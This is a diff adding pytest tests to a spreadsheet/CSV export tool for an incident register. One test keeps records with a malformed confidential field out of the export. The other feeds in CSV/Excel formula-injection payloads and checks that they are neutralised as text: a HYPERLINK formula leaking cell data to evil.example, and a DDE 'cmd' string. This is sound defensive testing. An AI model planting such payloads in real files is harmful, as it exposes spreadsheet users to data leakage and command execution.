@@ -136,3 +136,37 @@ def test_unwritable_output_is_fatal(small: Any, tmp_path: Path, capsys: Any) -> 
     blocker.write_text("x")
     assert main(["export", "xlsx", "--root", str(small.root), "--now", NOW, "--out", str(blocker / "a.xlsx")]) == 2
     assert "无法写入" in capsys.readouterr().err
+
+
+def test_a_file_with_errors_is_never_exported(register_dir: Any, tmp_path: Path, capsys: Any) -> None:
+    """`confidential: yes` is an error (YAML 1.2 reads it as text): the record cannot be trusted
+    to be public, so it stays out of the 台账 rather than leak."""
+    from .conftest import base_incident
+
+    register_dir.write(base_incident())
+    secret = base_incident(id="YQ-2025-0002", title="不应外传的事件标题")
+    secret["confidential"] = "yes"
+    register_dir.write(secret)
+    out = tmp_path / "台账.xlsx"
+    export(register_dir.root, out)
+    err = capsys.readouterr().err
+    assert "1 个事件文件有错误,以下结果不含这些文件" in err
+    ids = list(rows_by_id(openpyxl.load_workbook(out)["舆情台账"]))
+    assert ids == ["YQ-2025-0001"]
+
+
+def test_text_from_web_posts_never_becomes_a_formula(register_dir: Any, tmp_path: Path) -> None:
+    from .conftest import base_incident
+
+    title = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    register_dir.write(base_incident(title=title, source={"channel": "社交媒体", "platform": "+cmd|' /C calc'!A0"}))
+    out = tmp_path / "台账.xlsx"
+    export(register_dir.root, out)
+    sheet = openpyxl.load_workbook(out)["舆情台账"]
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
+    assert [c.value for c in cells] == [title] and all(c.data_type == "s" for c in cells)
+    csv_out = tmp_path / "台账.csv"
+    assert main(["export", "csv", "--out", str(csv_out), "--root", str(register_dir.root), "--now", NOW]) == 0
+    text = csv_out.read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK(" in text and "'+cmd|" in text
+    assert ",=HYPERLINK" not in text
